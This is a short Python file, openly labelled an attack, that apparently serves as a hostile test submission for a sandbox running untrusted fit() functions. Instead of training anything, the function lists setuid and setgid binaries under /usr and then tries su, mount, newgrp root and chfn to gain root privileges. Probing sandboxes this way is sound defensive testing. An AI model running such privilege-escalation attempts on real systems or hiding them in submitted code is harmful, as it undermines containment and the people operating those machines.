# Attack: find setuid-root programs and use them to become root (su, mount, passwd, newgrp …).
import os
import stat
import subprocess


def fit(x, y, *, seed, max_seconds):
    setuid = []
    for top in ("/usr/bin", "/usr/sbin", "/usr/lib", "/usr/local"):
        for root, _dirs, files in os.walk(top, onerror=lambda e: None):
            for name in files:
                path = os.path.join(root, name)
                try:
                    mode = os.lstat(path).st_mode
                except OSError:
                    continue
                if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID):
                    setuid.append(path)
    print(f"SETUID {sorted(setuid)}")
    for command in (["su", "-c", "id -u", "root"], ["mount", "-t", "tmpfs", "none", "/tmp"],
                    ["newgrp", "root"], ["chfn", "-f", "pwned"]):
        try:
            run = subprocess.run(command, capture_output=True, timeout=10, stdin=subprocess.DEVNULL, text=True)
            print(f"RAN {command[0]} rc={run.returncode} out={run.stdout.strip()!r} err={run.stderr.strip()[:200]!r}")
        except (OSError, subprocess.SubprocessError) as exc:
            print(f"RAN {command[0]} failed: {exc}")
    print(f"EUID {os.geteuid()}")
    raise RuntimeError("this submission only tries setuid programs")
